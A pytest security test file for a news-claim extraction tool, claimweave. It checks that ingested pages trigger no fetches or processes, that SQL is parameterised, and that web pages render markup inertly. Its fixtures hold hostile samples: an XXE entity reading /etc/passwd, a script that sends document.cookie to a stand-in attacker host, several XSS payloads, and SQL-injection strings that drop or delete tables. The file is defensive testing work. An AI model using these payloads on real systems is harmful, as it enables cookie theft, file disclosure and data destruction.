"""What SECURITY.md promises, tested: nothing a document contains is fetched or executed, SQL is
parameterised everywhere, hostile strings are stored verbatim and searched safely."""

from __future__ import annotations

import ast
import json
import socket
import subprocess
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from claimweave.errors import InputError
from claimweave.ingest import iter_documents
from claimweave.options import ExtractOptions
from claimweave.pipeline import make_document, run
from claimweave.store import Ledger
from pagegen import warc_response

SRC = Path(__file__).resolve().parent.parent / "src" / "claimweave"

HOSTILE_HTML = """<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<html><head><meta http-equiv="refresh" content="0; url=http://attacker.invalid/">
<link rel="stylesheet" href="http://attacker.invalid/a.css"><base href="http://attacker.invalid/">
<script src="http://attacker.invalid/x.js"></script><script>fetch('http://attacker.invalid/'+document.cookie)</script>
</head><body onload="alert(1)"><article><h1>Strikes hit Raqqa</h1>
<p>More than 17 civilians were killed on Tuesday in Raqqa, according to a local monitor. &xxe;</p>
<img src="http://attacker.invalid/pixel.gif" onerror="alert(2)"><iframe src="http://attacker.invalid/"></iframe>
<object data="file:///etc/shadow"></object><svg><use href="http://attacker.invalid/#x"/></svg>
<p>Rescue teams searched the rubble <a href="javascript:alert(3)">all night</a>.</p></article>
<div id="comments"><p>Commenter: <img src=x onerror=alert(4)> they lie</p></div></body></html>"""


@pytest.fixture
def no_escape(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Any attempt to open a connection, resolve a name or start a process is recorded and fails."""
    attempts: list[str] = []

    def refuse(what: str) -> Any:
        def _refuse(*args: object, **kwargs: object) -> Any:
            attempts.append(f"{what}{args[:2]!r}")
            raise OSError(f"claimweave tried {what}")
        return _refuse

    monkeypatch.setattr(socket.socket, "connect", refuse("socket.connect"))
    monkeypatch.setattr(socket, "create_connection", refuse("socket.create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("socket.getaddrinfo"))
    monkeypatch.setattr(subprocess, "Popen", refuse("subprocess.Popen"))
    monkeypatch.setattr("os.system", refuse("os.system"))
    monkeypatch.setattr("os.execv", refuse("os.execv"))
    monkeypatch.setattr("os.execve", refuse("os.execve"))
    return attempts


def test_nothing_a_document_names_is_fetched_or_executed(tmp_path: Path, no_escape: list[str]) -> None:
    (tmp_path / "page.html").write_text(HOSTILE_HTML, encoding="utf-8")
    (tmp_path / "page.xhtml").write_text('<?xml version="1.0"?>\n' + HOSTILE_HTML, encoding="utf-8")
    (tmp_path / "crawl.warc").write_bytes(warc_response(HOSTILE_HTML.encode(), target="http://attacker.invalid/page"))
    (tmp_path / "wire.jsonl").write_text(json.dumps({"id": "h", "html": HOSTILE_HTML,
                                                     "url": "http://attacker.invalid/"}) + "\n",
                                         encoding="utf-8")
    docs = [d for d in iter_documents([tmp_path]) if not isinstance(d, InputError)]
    assert len(docs) == 4
    for doc in docs:
        assert "root:" not in doc.text and "/etc/passwd" not in doc.text  # no entity expansion
        assert "fetch(" not in doc.text and "alert(" not in doc.text  # scripts dropped, not run
        rec = run(doc, ExtractOptions(detect_language=False))
        assert rec.claims
    assert no_escape == []


def _sql_calls(tree: ast.AST) -> list[tuple[ast.Call, ast.expr]]:
    out = []
    for node in ast.walk(tree):
        if (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                and node.func.attr in ("execute", "executemany", "executescript") and node.args):
            out.append((node, node.args[0]))
    return out


# Interpolations into SQL text that are reviewed: each is a constant of the code, never data.
# ledger.counts: a table name from a literal tuple; incidents.claims_by_incident: "" or a "?" list;
# fieldformats.iter_incidents: "" or " AND id IN (?,...)" (and the same on ci.incident);
# filters.incident_ids/claim_seqs: conditions joined from literal SQL with "?" for every value
# (columns are literals of the callers of filters._place_match).
REVIEWED = {("store/ledger.py", "tbl"), ("store/incidents.py", "where"),
            ("store/fieldformats.py", "where"), ("store/fieldformats.py", "cw"),
            ("store/filters.py", "sql")}


def _placeholders(expr: ast.expr) -> bool:
    """``','.join('?' * n)`` and the like: the only string constants in it are "?" and ","."""
    consts = [n.value for n in ast.walk(expr) if isinstance(n, ast.Constant) and isinstance(n.value, str)]
    return bool(consts) and set(consts) <= {"?", ",", ", "}


def test_sql_is_parameterised_everywhere() -> None:
    """SQL text may interpolate only UPPER_CASE constants (or a reviewed name); values go as ``?``."""
    problems = []
    for path in sorted(SRC.rglob("*.py")):
        rel = path.relative_to(SRC).as_posix()
        for call, sql in _sql_calls(ast.parse(path.read_text(encoding="utf-8"))):
            where = f"{rel}:{call.lineno}"
            if isinstance(sql, ast.BinOp) and isinstance(sql.op, ast.Mod):
                problems.append(f"{where}: %-formatted SQL")
            if (isinstance(sql, ast.Call) and isinstance(sql.func, ast.Attribute)
                    and sql.func.attr == "format"):
                problems.append(f"{where}: str.format SQL")
            for part in ast.walk(sql) if isinstance(sql, ast.JoinedStr) else ():
                if isinstance(part, ast.FormattedValue):
                    name = ast.unparse(part.value).split(".")[-1]
                    if not (name.isupper() or (rel, name) in REVIEWED or _placeholders(part.value)):
                        problems.append(f"{where}: f-string interpolates {ast.unparse(part.value)}")
    assert not problems, problems


INJECTIONS = ["'); DROP TABLE claims; --", "\" OR 1=1 --", "Robert'); DELETE FROM documents;--",
              "\x00hidden", "%s %d ?", "\u202egnp.exe", "<script>alert(1)</script>"]


def test_hostile_strings_are_stored_verbatim(tmp_path: Path) -> None:
    with Ledger.open(tmp_path / "l.db") as ledger:
        for i, bad in enumerate(INJECTIONS):
            text = f"{bad} More than {i + 2} civilians were killed in Raqqa, {bad} said."
            doc = make_document(text, path=f"{bad}.txt", title=bad, author=bad)
            assert ledger.write(run(doc, ExtractOptions(detect_language=False)))
            ledger.record_error(bad, "E101", bad)
        stored = {r["path"]: r for r in ledger.connection.execute("SELECT * FROM documents")}
        for bad in INJECTIONS:
            row = stored[f"{bad}.txt"]
            assert row["title"] == bad and row["text"].startswith(bad)
        assert ledger.counts()["documents"] == len(INJECTIONS)
        assert {r["path"] for r in ledger.errors()} == set(INJECTIONS)
        assert ledger.connection.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


@pytest.fixture(scope="module")
def search_ledger(tmp_path_factory: pytest.TempPathFactory) -> Ledger:
    db = tmp_path_factory.mktemp("search") / "l.db"
    with Ledger.open(db) as ledger:
        doc = make_document("More than 17 civilians were killed in Hajin, a monitor said.", path="a")
        ledger.write(run(doc, ExtractOptions(detect_language=False)))
    return Ledger.open(db)


@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.one_of(st.text(), st.lists(st.sampled_from(['"', "(", ")", "*", "NEAR", "OR", "AND", "NOT",
                                                     "^", ":", "-", "+", "civilians", "\x00", "{"]))
                 .map(" ".join)))
def test_search_never_raises(search_ledger: Ledger, query: str) -> None:
    assert isinstance(search_ledger.search_claims(query), list)


def test_bug_malformed_fts_query_raised_operational_error(search_ledger: Ledger) -> None:
    """Found by the search fuzz test: an unpaired quote, a bare OR, ``NEAR(`` or a NUL reached
    the caller as sqlite3.OperationalError; now such a query searches its words literally."""
    for query in ['"', "NEAR(", "a OR", "\x00", 'killed"']:
        assert isinstance(search_ledger.search_claims(query), list)
    assert search_ledger.search_claims('civilians"')  # literal fallback still finds the words


# -- the hostile pages in write mode (issue 15) ------------------------------------------------------
MARKUP = "<script>window.__pwned='w'</script><img src=x onerror=\"window.__pwned='w'\">\u202e"


def test_hostile_pages_stay_inert_in_write_mode(tmp_path: Path) -> None:
    """Signed in as a reviewer on a --write server, with the forms on every page: the hostile
    documents, and decisions whose notes, reasons and corrected values are markup, render as
    inert text on every page that shows them (the same check as tests/test_serve.py's)."""
    import re
    import warnings

    from serve_fixtures import DEMO, build_ledger, write_hostile
    from test_serve import Inert as ReadOnlyInert

    class Inert(ReadOnlyInert):  # the write mode's forms add these tags of ours
        ALLOWED_TAGS = ReadOnlyInert.ALLOWED_TAGS | {"textarea", "fieldset", "legend", "code"}

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from starlette.testclient import TestClient

    from claimweave.serve.app import create_app
    from claimweave.store.review import add_user

    db = build_ledger(tmp_path / "ledger.db", DEMO, write_hostile(tmp_path / "hostile", long_line=False))
    with Ledger.open(db) as ledger:
        token = add_user(ledger.connection, "dana", "reviewer")[1]
    h = {"authorization": f"Bearer {token}"}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        w = TestClient(create_app(db, write=True), raise_server_exceptions=False)
    hits = w.get("/api/search", params={"q": "Hostile page test"}).json()["documents"]
    seq = hits[0]["seq"]
    doc = w.get(f"/api/documents/{seq}").json()
    cid = doc["claims"][0]["id"]
    r = w.post(f"/api/documents/{seq}/claims/{cid}/review", headers=h, json={
        "action": "correct", "note": MARKUP, "fields": {
            "actor": MARKUP, "claimant": MARKUP, "target": MARKUP,
            "place": {"name": MARKUP, "lat": 1.0, "lon": 2.0}}})
    assert r.status_code == 200, r.text
    items = w.get("/api/incidents?sort=claims&order=asc&limit=1000").json()["items"]
    a, b = items[0]["id"], items[-1]["id"]
    assert w.post(f"/api/incidents/{b}/assess", headers=h, json={
        "grade": "contested", "reasons": [MARKUP], "note": MARKUP}).status_code == 200
    assert w.post(f"/api/incidents/{b}/note", headers=h, json={"note": MARKUP}).status_code == 200
    assert w.post(f"/api/incidents/{a}/merge", headers=h, json={"into": b, "note": MARKUP}).status_code == 200
    inc = w.get(f"/api/documents/{seq}").json()["claims"][0]["incident"]
    page = w.get("/login").text
    csrf = re.search(r'name="csrf" value="([^"]+)"', page).group(1)  # type: ignore[union-attr]
    assert w.post("/login", data={"csrf": csrf, "token": token}, follow_redirects=False).status_code == 303
    urls = ["/incidents", f"/incidents/{b}", f"/incidents/{b}/audit", f"/incidents/{a}/audit",
            f"/documents/{seq}", f"/documents/{seq}?claim={cid}", f"/documents/{seq}/claims/{cid}/audit",
            "/review/incidents", "/sources", "/search?q=script", "/incidents?q=Hostile"]
    if inc:
        urls += [f"/incidents/{inc}", f"/incidents/{inc}/audit"]
    shown = 0
    for url in urls:
        r = w.get(url)
        assert r.status_code == 200, url
        assert "dana (reviewer)" in r.text and 'name="csrf"' in r.text  # signed in, forms there
        Inert.check(r.text)
        assert "<script>window.__pwned" not in r.text and "<img src=x" not in r.text
        shown += "&lt;script&gt;window.__pwned=" in r.text
    assert shown >= 5  # the markup is shown, as text, on the pages that show the decisions
    # an error page after a stale form is inert too
    r = w.post(f"/incidents/{b}/assess", data={"csrf": "x", "grade": "denied"}, follow_redirects=False)
    assert r.status_code == 403
    Inert.check(r.text)
